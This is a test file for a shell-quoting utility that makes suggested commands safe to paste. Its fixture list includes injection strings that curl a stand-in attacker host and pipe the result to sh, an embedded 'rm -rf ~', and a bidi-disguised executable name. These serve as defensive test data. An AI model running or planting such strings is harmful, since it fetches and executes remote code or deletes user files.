import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { shellQuote, suggestedCommand } from '../../../src/util/shell-quote.js';

/** The words a shell reads from `line` (after `printf '%s\0'`): what a person pasting it would run. */
function wordsParsedBy(shell: string, line: string): string[] {
  const out = execFileSync(shell, ['-c', `printf '%s\\0' ${line}`], { encoding: 'utf8' });
  return out.split('\0').slice(0, -1);
}

/** No raw control, format or separator character: what is printed is what is seen. */
const RAW_CONTROL = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

const HOSTILE_WORDS = [
  'in/my invoices/a.pdf',
  "O'Brien's payslip.pdf",
  'x/$(curl -s http://attacker.example/i | sh).pdf',
  'job_7f3a; curl -s http://attacker.example/i | sh #',
  'line one\nrm -rf ~\n.pdf',
  'tab\there\r.pdf',
  'bidi \u202Efdp.exe',
  '`id`*?[a]{b,c}~!&|<>"\\',
  'café.pdf',
  '',
  '-starts-with-a-dash',
];

describe('shellQuote: a word a POSIX shell reads back as itself', () => {
  it('leaves a word of safe characters bare, and single-quotes any other', () => {
    expect(shellQuote('job_0a1b2c3d4e5f60718293a4b5')).toBe('job_0a1b2c3d4e5f60718293a4b5');
    expect(shellQuote('in/x-1.pdf')).toBe('in/x-1.pdf');
    expect(shellQuote('a b')).toBe("'a b'");
    expect(shellQuote("it's")).toBe("'it'\\''s'");
    expect(shellQuote('$(id)')).toBe("'$(id)'");
    expect(shellQuote('')).toBe("''");
  });

  it("writes a control character as an escape in $'…', never raw", () => {
    expect(shellQuote('a\nb')).toBe("$'a\\nb'");
    expect(shellQuote("it's\t\\")).toBe("$'it\\'s\\t\\\\'");
    expect(shellQuote('\u202E')).toBe("$'\\xe2\\x80\\xae'");
    for (const word of HOSTILE_WORDS) expect(shellQuote(word), JSON.stringify(word)).not.toMatch(RAW_CONTROL);
  });

  it.each(['bash', 'zsh'])('%s reads each hostile word back as itself, one word each', (shell) => {
    expect(wordsParsedBy(shell, suggestedCommand(HOSTILE_WORDS))).toEqual(HOSTILE_WORDS);
  });

  it("sh (dash, which has no $'…') reads back each word without a control character", () => {
    const printable = HOSTILE_WORDS.filter((word) => !RAW_CONTROL.test(word));
    expect(wordsParsedBy('sh', suggestedCommand(printable))).toEqual(printable);
  });

  it('a suggested command is its words, each quoted', () => {
    expect(suggestedCommand(['docextract', 'collect', 'job_1'])).toBe('docextract collect job_1');
    expect(suggestedCommand(['docextract', 'extract', 'my files/*.pdf'])).toBe("docextract extract 'my files/*.pdf'");
  });
});
